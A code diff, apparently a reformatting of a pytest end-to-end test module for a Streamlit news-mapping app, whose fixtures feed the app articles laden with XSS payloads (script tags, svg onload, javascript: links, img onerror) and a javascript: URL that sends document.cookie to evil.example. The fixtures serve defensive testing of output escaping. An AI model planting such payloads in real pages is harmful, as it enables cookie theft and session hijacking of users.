@@ -23,7 +23,15 @@ import pytest
 
 from .cdn import OfflineCDN
 from .server import (  # noqa: F401 (re-exported for the tests)
-    APP, CHROMIUM, CHROMIUM_ARGS, REPO, AppServer, PageGuard, ServerFailed, free_port, running_app,
+    APP,
+    CHROMIUM,
+    CHROMIUM_ARGS,
+    REPO,
+    AppServer,
+    PageGuard,
+    ServerFailed,
+    free_port,
+    running_app,
 )
 
 HOSTILE_STEM = "zz_hostile"
@@ -43,13 +51,11 @@ HOSTILE2_STEM = "zz_hostile_urls"
 HOSTILE2_MARK = "E2E-hostile-urls"
 HOSTILE2_TITLE = (
     "</script><script>window.__xss=1</script> `${window.__xss=2}` "
-    "<svg onload=\"window.__xss=3\"></svg> <a href=\"javascript:window.__xss=4\">t</a>"
+    '<svg onload="window.__xss=3"></svg> <a href="javascript:window.__xss=4">t</a>'
 )
 HOSTILE2_OUTLET = HOSTILE2_MARK + " <b onmouseover=alert(5)>o</b> ${alert(6)} javascript:alert(7)"
 HOSTILE2_URL = "javascript:fetch('https://evil.example/steal?c='+document.cookie)"
-HOSTILE2_SENTENCE = (
-    "Pakistani drones struck a house in Spin Boldak district of Kandahar province on Tuesday, killing two people."
-)
+HOSTILE2_SENTENCE = "Pakistani drones struck a house in Spin Boldak district of Kandahar province on Tuesday, killing two people."
 
 
 def hostile_article_urls() -> str:
@@ -57,12 +63,14 @@ def hostile_article_urls() -> str:
 
     front = yaml.safe_dump(
         {"title": HOSTILE2_TITLE, "outlet": HOSTILE2_OUTLET, "url": HOSTILE2_URL, "published": "2025-10-16"},
-        allow_unicode=True, sort_keys=False, width=10_000,
+        allow_unicode=True,
+        sort_keys=False,
+        width=10_000,
     )
     return (
         f"---\n{front}---\n{HOSTILE2_SENTENCE}\n"
-        "See <a href=\"javascript:window.__xss=8\">this</a>, <img src=\"https://evil.example/x.png\" "
-        "onerror=\"window.__xss=9\"> and data:text/html,<script>window.__xss=10</script> `${window.__xss=11}`.\n"
+        'See <a href="javascript:window.__xss=8">this</a>, <img src="https://evil.example/x.png" '
+        'onerror="window.__xss=9"> and data:text/html,<script>window.__xss=10</script> `${window.__xss=11}`.\n'
     )
 
 
@@ -71,8 +79,14 @@ def hostile_article() -> str:
     import yaml
 
     front = yaml.safe_dump(
-        {"title": HOSTILE_TITLE, "outlet": HOSTILE_OUTLET, "url": "https://example.org/news/1", "published": "2025-10-15"},
-        allow_unicode=True, sort_keys=False,
+        {
+            "title": HOSTILE_TITLE,
+            "outlet": HOSTILE_OUTLET,
+            "url": "https://example.org/news/1",
+            "published": "2025-10-15",
+        },
+        allow_unicode=True,
+        sort_keys=False,
     )
     return f"---\n{front}---\n{HOSTILE_SENTENCE}\nOfficials said </script><script>alert(1)</script> nothing else.\n"
 
@@ -103,8 +117,12 @@ def app_server(request, articles_dir, tmp_path_factory):
     log_path = tmp_path_factory.mktemp("server") / "streamlit.log"
     try:
         # DURAND_GEOJSON dropped: the app must read the articles, not a prebuilt file.
-        with running_app(log_path, {"DURAND_ARTICLES_DIR": str(articles_dir)}, drop_env=("DURAND_GEOJSON",),
-                         articles=articles_dir) as server:
+        with running_app(
+            log_path,
+            {"DURAND_ARTICLES_DIR": str(articles_dir)},
+            drop_env=("DURAND_GEOJSON",),
+            articles=articles_dir,
+        ) as server:
             try:
                 yield server
             finally:
